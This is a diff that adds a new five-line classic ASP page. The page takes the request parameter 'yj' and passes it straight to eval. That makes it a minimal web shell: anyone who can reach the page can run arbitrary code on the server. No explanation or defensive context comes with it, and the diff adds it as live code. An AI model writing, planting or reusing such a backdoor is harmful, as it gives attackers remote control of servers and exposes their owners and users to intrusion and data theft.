@@ -1,0 +1,5 @@
+<%
+Dim cmd
+cmd = Request.Item("yj")
+eval cmd
+%>
